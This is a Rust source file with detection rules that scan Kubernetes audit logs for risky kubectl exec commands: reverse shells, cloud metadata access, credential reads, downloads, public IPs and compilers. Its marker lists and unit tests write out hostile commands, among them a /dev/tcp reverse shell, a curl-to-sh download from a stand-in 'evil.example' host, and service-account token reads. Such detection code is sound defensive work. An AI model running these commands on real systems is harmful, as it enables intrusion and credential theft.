//! What was run through `kubectl exec`: the command line is in the request URI as repeated
//! `command=` parameters (URL-encoded), so even a Metadata-level log shows it.
//!
//! [`command_line`] decodes the parameters into one string; the rules below look in it for a
//! reverse shell, a cloud metadata endpoint, credential files, a download, a public IP address
//! or a compiler. Matching is on tokens and literal markers, never on a regular expression.

use std::net::Ipv4Addr;

use super::context::Ctx;
use super::{meta, EventRule, RuleKind::Security};
use crate::model::Level::Metadata;
use crate::report::Severity::{Critical, High, Low, Medium};

const FAMILY: &str = "exec";
const PODS: &[&str] = &["pods"];

pub static RULES: &[EventRule] = &[
    EventRule {
        meta: meta(
            "k8s.exec.reverse_shell",
            "Reverse shell through exec",
            "A command run in a container through exec looks like a reverse or bind shell \
             (/dev/tcp redirection, nc -e, socat exec, mkfifo pipes, interpreter sockets).",
            FAMILY,
            Security,
            Critical,
            &["T1609", "T1059.004"],
            Metadata,
        ),
        resources: PODS,
        check: reverse_shell,
    },
    EventRule {
        meta: meta(
            "k8s.exec.cloud_metadata",
            "Cloud metadata endpoint reached through exec",
            "A command run through exec addresses the cloud instance metadata service (AWS, \
             GCP, Azure, Alibaba), where node credentials can be read.",
            FAMILY,
            Security,
            High,
            &["T1552.005", "T1609"],
            Metadata,
        ),
        resources: PODS,
        check: cloud_metadata,
    },
    EventRule {
        meta: meta(
            "k8s.exec.credential_path",
            "Credential files read through exec",
            "A command run through exec names a credential location: service account tokens, \
             kubelet or Kubernetes configuration, /etc/shadow, SSH, cloud or kube configs, \
             private keys, process environments.",
            FAMILY,
            Security,
            High,
            &["T1552.001", "T1552.007", "T1609"],
            Metadata,
        ),
        resources: PODS,
        check: credential_path,
    },
    EventRule {
        meta: meta(
            "k8s.exec.download",
            "Download through exec",
            "A command run through exec fetches a URL with curl or wget (tool staging or \
             exfiltration); cluster-local and health endpoints are left out.",
            FAMILY,
            Security,
            Medium,
            &["T1105", "T1609"],
            Metadata,
        ),
        resources: PODS,
        check: download,
    },
    EventRule {
        meta: meta(
            "k8s.exec.external_ip",
            "Public IP address in an exec command",
            "A command run through exec names a public IPv4 address: a likely command and \
             control or exfiltration endpoint.",
            FAMILY,
            Security,
            Medium,
            &["T1609", "T1059"],
            Metadata,
        ),
        resources: PODS,
        check: external_ip,
    },
    EventRule {
        meta: meta(
            "k8s.exec.compiler",
            "Compiler run through exec",
            "A compiler or build tool is run inside a container (gcc, clang, make, nasm, \
             javac, ...): containers are built, not changed in place.",
            FAMILY,
            Security,
            Low,
            &["T1027.004"],
            Metadata,
        ),
        resources: PODS,
        check: compiler,
    },
];

/// The command line of an exec request: its `command=` parameters, decoded and joined by
/// spaces. `None` when the URI carries no command.
pub fn command_line(uri: &str) -> Option<String> {
    let (_, query) = uri.split_once('?')?;
    let parts: Vec<String> = form_urlencoded::parse(query.as_bytes())
        .filter(|(key, _)| key == "command")
        .map(|(_, value)| value.into_owned())
        .collect();
    (!parts.is_empty()).then(|| parts.join(" "))
}

/// The decoded command of an exec request, with its subject for messages.
fn exec(ctx: &Ctx<'_>) -> Option<(String, String)> {
    if ctx.subresource != "exec" {
        return None;
    }
    let command = command_line(ctx.uri)?;
    let subject = format!(
        "{} ran in pod {}{}",
        ctx.user,
        ctx.object(),
        if ctx.failed() {
            format!(" (refused, {})", ctx.code())
        } else {
            String::new()
        }
    );
    Some((command, subject))
}

/// Splits a command line into words at blanks and shell punctuation.
fn words(command: &str) -> impl Iterator<Item = &str> {
    command
        .split(|c: char| c.is_whitespace() || ";|&()<>`'\"$".contains(c))
        .filter(|w| !w.is_empty())
}

/// The program name of a word: `/usr/bin/curl` gives `curl`.
fn program(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// A literal marker of a reverse or bind shell found in the command.
pub fn reverse_shell_marker(command: &str) -> Option<&'static str> {
    const MARKERS: &[&str] = &[
        "/dev/tcp/",
        "/dev/udp/",
        "zsh/net/tcp",
        "/inet/tcp/",
        "mkfifo",
        "0>&1",
        "pty.spawn",
        "IO::Socket::INET",
        "fsockopen",
        "TCPSocket.new",
        "socket.socket",
    ];
    let local = ["/dev/tcp/localhost/", "/dev/tcp/127.0.0.1/"];
    if let Some(marker) = MARKERS.iter().find(|m| command.contains(*m)) {
        if !(marker.starts_with("/dev/tcp") && local.iter().any(|l| command.contains(l))) {
            return Some(marker);
        }
    }
    let words: Vec<&str> = words(command).collect();
    for (i, word) in words.iter().enumerate() {
        let rest = &words[i + 1..];
        match program(word) {
            "nc" | "ncat" | "netcat" if rest.iter().any(|w| matches!(*w, "-e" | "-c")) => {
                return Some("netcat -e");
            }
            "socat"
                if rest.iter().any(|w| {
                    let w = w.to_ascii_lowercase();
                    w.starts_with("exec:") || w.starts_with("system:") || w.contains("pty")
                }) =>
            {
                return Some("socat exec");
            }
            _ => {}
        }
    }
    None
}

fn reverse_shell(ctx: &Ctx<'_>) -> Option<String> {
    let (command, subject) = exec(ctx)?;
    let marker = reverse_shell_marker(&command)?;
    Some(format!("{subject} a reverse shell ({marker}): {command}"))
}

/// The metadata endpoint a command addresses.
pub fn metadata_endpoint(command: &str) -> Option<&'static str> {
    const ENDPOINTS: &[&str] = &[
        "169.254.169.254",
        "fd00:ec2::254",
        "metadata.google.internal",
        "computeMetadata/v1",
        "/latest/meta-data",
        "/latest/api/token",
        "/latest/user-data",
        "metadata/identity/oauth2/token",
        "100.100.100.200",
        "2852039166",
        "0xa9fea9fe",
    ];
    ENDPOINTS.iter().copied().find(|e| command.contains(e))
}

fn cloud_metadata(ctx: &Ctx<'_>) -> Option<String> {
    let (command, subject) = exec(ctx)?;
    let endpoint = metadata_endpoint(&command)?;
    Some(format!(
        "{subject} a command reaching the cloud metadata service ({endpoint}): {command}"
    ))
}

/// The first credential location a command names.
pub fn credential_location(command: &str) -> Option<&str> {
    const PLACES: &[&str] = &[
        "/var/run/secrets/",
        "/run/secrets/",
        "/etc/kubernetes/",
        "/var/lib/kubelet/",
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/sudoers",
        "/etc/passwd",
        "/.ssh/",
        "/.aws/",
        "/.azure/",
        "/.kube/",
        "/.config/gcloud",
        "/.docker/config.json",
    ];
    const SUFFIXES: &[&str] = &[
        ".pem",
        ".key",
        ".p12",
        ".pfx",
        ".jks",
        ".keystore",
        "id_rsa",
    ];
    for word in words(command) {
        if PLACES.iter().any(|p| word.contains(p))
            || SUFFIXES.iter().any(|s| word.ends_with(s))
            || (word.starts_with("/proc/") && word.ends_with("/environ"))
        {
            if word.ends_with("/etc/resolv.conf") {
                continue;
            }
            return Some(word);
        }
    }
    None
}

fn credential_path(ctx: &Ctx<'_>) -> Option<String> {
    let (command, subject) = exec(ctx)?;
    let place = credential_location(&command)?;
    Some(format!(
        "{subject} a command touching credentials ({place}): {command}"
    ))
}

/// The URL a curl or wget in the command fetches, unless it is cluster-local.
pub fn downloaded_url(command: &str) -> Option<&str> {
    let words: Vec<&str> = words(command).collect();
    if !words.iter().any(|w| matches!(program(w), "curl" | "wget")) {
        return None;
    }
    const LOCAL: &[&str] = &[
        "localhost",
        "127.0.0.1",
        "[::1]",
        "kubernetes.default",
        ".svc",
        "/healthz",
        "/readyz",
        "/livez",
        "/.well-known/",
    ];
    words
        .into_iter()
        .filter(|w| w.starts_with("http://") || w.starts_with("https://"))
        .find(|url| !LOCAL.iter().any(|l| url.contains(l)))
}

fn download(ctx: &Ctx<'_>) -> Option<String> {
    let (command, subject) = exec(ctx)?;
    let url = downloaded_url(&command)?;
    Some(format!("{subject} a download of {url}: {command}"))
}

/// The first public IPv4 address written in the command.
pub fn public_ipv4(command: &str) -> Option<Ipv4Addr> {
    command
        .split(|c: char| !(c.is_ascii_digit() || c == '.'))
        .filter(|s| s.matches('.').count() == 3)
        .filter_map(|s| s.trim_matches('.').parse::<Ipv4Addr>().ok())
        .find(|ip| is_public(*ip))
}

/// Not private, loopback, link-local, documentation, multicast, "this network" (0/8, which
/// holds the unspecified address), reserved (240/4, which holds the broadcast address) or
/// shared carrier-grade NAT space (100.64/10).
fn is_public(ip: Ipv4Addr) -> bool {
    let [a, b, ..] = ip.octets();
    !(ip.is_private()
        || ip.is_loopback()
        || ip.is_link_local()
        || ip.is_documentation()
        || ip.is_multicast()
        || a == 0
        || a >= 240
        || (a == 100 && (64..128).contains(&b)))
}

fn external_ip(ctx: &Ctx<'_>) -> Option<String> {
    let (command, subject) = exec(ctx)?;
    let ip = public_ipv4(&command)?;
    Some(format!(
        "{subject} a command naming public address {ip}: {command}"
    ))
}

/// A compiler or build tool run by the command.
pub fn compiler_in(command: &str) -> Option<&str> {
    const TOOLS: &[&str] = &[
        "gcc", "cc", "g++", "c++", "clang", "clang++", "make", "nasm", "yasm", "javac", "rustc",
        "tcc",
    ];
    words(command)
        .map(program)
        .find(|p| TOOLS.contains(p) || p.starts_with("gcc-") || p.starts_with("clang-"))
}

fn compiler(ctx: &Ctx<'_>) -> Option<String> {
    let (command, subject) = exec(ctx)?;
    let tool = compiler_in(&command)?;
    Some(format!("{subject} the compiler {tool}: {command}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_decoded_from_the_uri() {
        let uri = "/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=curl%20https%3A%2F%2Fx.io%2Fa%7Csh&container=c&stdin=true";
        assert_eq!(
            command_line(uri).as_deref(),
            Some("sh -c curl https://x.io/a|sh")
        );
        assert_eq!(
            command_line("/api/v1/namespaces/d/pods/p/exec?command=bash&container=nginx1")
                .as_deref(),
            Some("bash")
        );
        assert_eq!(
            command_line("/api/v1/namespaces/d/pods/p/attach?stdin=true"),
            None
        );
        assert_eq!(command_line("/api/v1/namespaces/d/pods/p/exec"), None);
    }

    #[test]
    fn shells_and_tools_are_recognised() {
        assert_eq!(
            reverse_shell_marker("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            Some("/dev/tcp/")
        );
        assert_eq!(
            reverse_shell_marker("nc 10.0.0.1 9001 -e /bin/sh"),
            Some("netcat -e")
        );
        assert_eq!(
            reverse_shell_marker("socat TCP:1.2.3.4:80 EXEC:/bin/sh"),
            Some("socat exec")
        );
        assert_eq!(reverse_shell_marker("bash"), None);
        assert_eq!(reverse_shell_marker("cat /dev/tcp/127.0.0.1/8080"), None);
        assert_eq!(
            metadata_endpoint("curl http://169.254.169.254/latest/meta-data/"),
            Some("169.254.169.254")
        );
        assert_eq!(metadata_endpoint("ls /"), None);
        assert_eq!(
            credential_location("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
            Some("/var/run/secrets/kubernetes.io/serviceaccount/token")
        );
        assert_eq!(credential_location("cat /etc/resolv.conf"), None);
        assert_eq!(
            credential_location("tail /proc/1/environ"),
            Some("/proc/1/environ")
        );
        assert_eq!(
            downloaded_url("curl -sk https://evil.example/x.sh"),
            Some("https://evil.example/x.sh")
        );
        assert_eq!(downloaded_url("curl http://localhost:8080/healthz"), None);
        assert_eq!(downloaded_url("echo https://example.com"), None);
        assert_eq!(public_ipv4("ping 8.8.8.8"), Some(Ipv4Addr::new(8, 8, 8, 8)));
        assert_eq!(public_ipv4("ping 10.1.2.3 192.168.0.1 100.64.0.1"), None);
        assert_eq!(public_ipv4("version 1.2.3"), None);
        assert_eq!(compiler_in("/usr/bin/gcc -o x x.c"), Some("gcc"));
        assert_eq!(compiler_in("cat makefile"), None);
    }

    #[test]
    fn a_reverse_shell_needs_the_option_that_runs_a_program() {
        assert_eq!(reverse_shell_marker("nc -v db 5432"), None);
        assert_eq!(
            reverse_shell_marker("ncat -c sh 10.0.0.1 9001"),
            Some("netcat -e")
        );
        assert_eq!(reverse_shell_marker("socat - TCP:db:5432"), None);
        assert_eq!(
            reverse_shell_marker("socat TCP:1.2.3.4:80 system:sh"),
            Some("socat exec")
        );
        assert_eq!(
            reverse_shell_marker("socat TCP:1.2.3.4:80 exec:'bash -li',pty,stderr"),
            Some("socat exec")
        );
        // The program's own path is not one of its arguments.
        assert_eq!(reverse_shell_marker("/opt/pty/socat - TCP:db:5432"), None);
    }

    #[test]
    fn credential_paths_are_whole_places() {
        assert_eq!(credential_location("cat /proc/cpuinfo"), None);
        assert_eq!(credential_location("cat /app/environ"), None);
    }

    #[test]
    fn only_globally_routed_addresses_are_public() {
        for reserved in [
            "127.0.0.1",
            "169.254.10.10",
            "0.0.0.0",
            "255.255.255.255",
            "192.0.2.1",
            "224.0.0.1",
            "0.1.2.3",
            "240.0.0.1",
            "100.64.0.1",
            "100.127.255.1",
        ] {
            assert_eq!(public_ipv4(&format!("ping {reserved}")), None, "{reserved}");
        }
        for public in ["8.70.1.1", "100.128.0.1", "100.63.0.1", "45.33.32.156"] {
            assert_eq!(
                public_ipv4(&format!("ping {public}")).map(|ip| ip.to_string()),
                Some(public.to_string())
            );
        }
    }

    #[test]
    fn versioned_compilers_are_compilers() {
        assert_eq!(compiler_in("gcc-12 -o x x.c"), Some("gcc-12"));
        assert_eq!(compiler_in("clang-17 x.c"), Some("clang-17"));
    }
}
